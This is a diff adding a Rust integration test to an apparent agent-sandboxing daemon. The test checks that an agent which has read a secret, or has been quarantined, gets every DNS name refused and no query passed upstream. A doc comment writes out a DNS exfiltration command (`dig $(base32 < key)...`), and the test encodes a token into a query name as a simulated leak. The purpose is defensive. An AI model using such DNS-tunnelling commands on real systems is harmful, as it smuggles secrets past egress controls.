@@ -335,3 +335,118 @@ fn vm_a_secret_read_narrows_the_agent_with_bpf_lsm() {
 fn vm_a_secret_read_narrows_a_baton_exec_agent_with_bpf_lsm() {
     a_secret_read_narrows_every_process_of_the_agent("secret-vm-exec", Kind::Exec);
 }
+
+/// A query is data leaving the host too: `dig $(base32 < key).allowed.example`
+/// would carry the secret to whoever serves that zone. Once an agent opened
+/// a secret, its DNS proxy refuses it every name, allowed or not, and asks
+/// no upstream; a quarantine holds names the same way.
+#[test]
+fn a_tainted_or_quarantined_agent_resolves_no_name_and_its_queries_stay_on_the_host() {
+    let label = "secret-dns";
+    let agent = "secret-dns-agent";
+    let dir = TempDir::new(label);
+    let token = dir.path().join("deploy-token");
+    std::fs::write(&token, "token-value\n").unwrap();
+    let query_log = dir.path().join("dnsmasq.log");
+    let (_dns, dns_port) = baton_tests::dnsmasq_with(&[
+        "--address=/allowed.test/127.0.0.2".to_string(),
+        "--log-queries".to_string(),
+        format!("--log-facility={}", query_log.display()),
+    ]);
+    let resolv_conf = dir.path().join("resolv.conf");
+    std::fs::write(
+        &resolv_conf,
+        "nameserver 127.0.0.53\noptions attempts:1 timeout:2\n",
+    )
+    .unwrap();
+    let body = format!(
+        "  egress:
+    default: deny
+    allow:
+      - domain: '*.allowed.test'
+        ports: [80]
+  files:
+    secrets: [{token}]
+",
+        token = token.display(),
+    );
+    let text = policy("secret-dns-policy", agent, "").replace(
+        &format!("    agent: {agent}\n"),
+        &format!("    agent: {agent}\n{body}"),
+    );
+    let daemon = Daemon::start_with_config(
+        label,
+        &[("p.yaml", text)],
+        &format!("dns:\n  upstreams: [\"127.0.0.1:{dns_port}\"]\n"),
+    );
+    let resolve = |name: &str| -> (i32, String) {
+        let wrapped = baton_tests::with_resolv_conf(&resolv_conf, &format!("getent hosts {name}"));
+        let args: Vec<&str> = wrapped.iter().map(String::as_str).collect();
+        let output = daemon.exec(agent, &args);
+        let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
+        (output.status.code().unwrap_or(-1), stdout)
+    };
+    let asked_upstream = |name: &str| {
+        std::fs::read_to_string(&query_log)
+            .unwrap_or_default()
+            .contains(name)
+    };
+
+    let (code, stdout) = resolve("before.allowed.test");
+    assert_eq!(
+        code, 0,
+        "an allowed name resolves before the read: {stdout}"
+    );
+    wait_until("dnsmasq logs the query", || {
+        asked_upstream("before.allowed.test")
+    });
+
+    // The read taints the agent; the name that would carry the secret is
+    // refused as permanently as an unlisted one (`getent` exits 2) and
+    // never reaches the upstream.
+    let output = daemon.exec(agent, &["cat", token.to_str().unwrap()]);
+    assert!(output.status.success(), "the secret may be read");
+    let leak = "746f6b656e2d76616c7565.allowed.test";
+    let (code, stdout) = resolve(leak);
+    assert_eq!(
+        code, 2,
+        "a tainted agent's allowed name is refused: {stdout}"
+    );
+    let (code, _) = resolve("before.allowed.test");
+    assert_eq!(code, 2, "cached names are refused too");
+    std::thread::sleep(Duration::from_millis(300));
+    assert!(!asked_upstream(leak), "the name left the host");
+    let record = daemon.wait_for_record(|r| {
+        r["control"] == "dns" && r["object"]["domain"] == leak && r["agent"] == agent
+    });
+    assert_eq!(record["verdict"], "denied", "{record}");
+    assert_eq!(record["rule"]["id"], "egress.afterSecret", "{record}");
+
+    // An operator clears the taint: names resolve again.
+    let cleared = taint_cli(&daemon, &["clear", agent]);
+    assert!(cleared.status.success(), "{cleared:?}");
+    let (code, stdout) = resolve("after.allowed.test");
+    assert_eq!(code, 0, "names resolve once the taint is cleared: {stdout}");
+
+    // A quarantine holds names the same way, until the breaker is reset.
+    let breaker = |args: &[&str]| {
+        let mut full = vec!["breaker"];
+        full.extend_from_slice(args);
+        full.extend_from_slice(&["--control-socket", daemon.socket.to_str().unwrap()]);
+        let output = baton(&full);
+        assert!(output.status.success(), "{output:?}");
+    };
+    breaker(&["trip", agent, "--action", "quarantine"]);
+    let (code, stdout) = resolve("held.allowed.test");
+    assert_eq!(code, 2, "a quarantined agent's name is refused: {stdout}");
+    assert!(
+        !asked_upstream("held.allowed.test"),
+        "the name left the host"
+    );
+    let record = daemon
+        .wait_for_record(|r| r["control"] == "dns" && r["object"]["domain"] == "held.allowed.test");
+    assert_eq!(record["mode"], "quarantine", "{record}");
+    breaker(&["reset", agent]);
+    let (code, stdout) = resolve("free.allowed.test");
+    assert_eq!(code, 0, "names resolve once the breaker is reset: {stdout}");
+}
